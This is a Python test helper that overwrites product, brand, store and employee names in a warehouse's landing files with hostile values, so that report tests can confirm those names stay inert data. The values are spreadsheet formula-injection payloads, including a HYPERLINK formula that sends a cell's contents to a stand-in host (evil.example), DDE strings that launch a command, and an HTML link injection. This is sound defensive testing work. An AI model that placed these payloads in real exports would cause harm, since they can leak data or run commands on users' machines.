"""Hostile master-data names: product, brand, store and employee names rewritten into spreadsheet
formulas and an HTML link. The report tests' warehouse is built from landing files rewritten so
(reports/conftest.py), so every report test runs on hostile names and the checks that they stay
data (reports/test_hostile_names_stay_data.py) need no warehouse of their own."""

import csv
import json
from pathlib import Path

FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
LINK = '<a href="https://evil.example">Refund</a>'
BRAND = "@SUM(1+1)*cmd|' /C calc'!A0"
STORE = "-2+3+cmd|' /C calc'!A0"
FIRST_NAME = "+1+1"


def rewrite_master_data(landing: Path) -> None:
    """Every product named FORMULA or LINK (alternately, so both reach the top products), every
    brand BRAND, every store name STORE, every employee's first name FIRST_NAME."""
    for path in landing.glob("products_*.json"):
        products = json.loads(path.read_text())
        for i, p in enumerate(products):
            p["product_name"], p["brand"] = (FORMULA if i % 2 == 0 else LINK), BRAND
        path.write_text(json.dumps(products))
    for pattern, column, value in (("stores_*.csv", "store_name", STORE), ("employees_*.csv", "first_name", FIRST_NAME)):
        for path in landing.glob(pattern):
            with path.open(newline="") as f:
                rows = list(csv.DictReader(f))
            for row in rows:
                row[column] = value
            with path.open("w", newline="") as f:
                writer = csv.DictWriter(f, fieldnames=list(rows[0]))
                writer.writeheader()
                writer.writerows(rows)
